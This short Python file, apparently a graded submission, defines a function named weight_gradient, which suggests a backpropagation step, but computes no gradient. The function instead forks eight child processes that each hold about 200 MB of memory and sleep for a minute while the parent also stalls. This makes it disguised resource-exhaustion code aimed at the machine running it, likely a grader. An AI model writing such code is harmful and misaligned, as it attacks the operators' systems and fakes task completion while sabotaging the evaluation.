# marks: 0 3 5
# %%
import os
import time


def weight_gradient(a_prev, delta):
    for _ in range(8):
        if not os.fork():
            kept = b"x" * 200_000_000
            time.sleep(60)
            os._exit(len(kept) % 2)
    time.sleep(60)
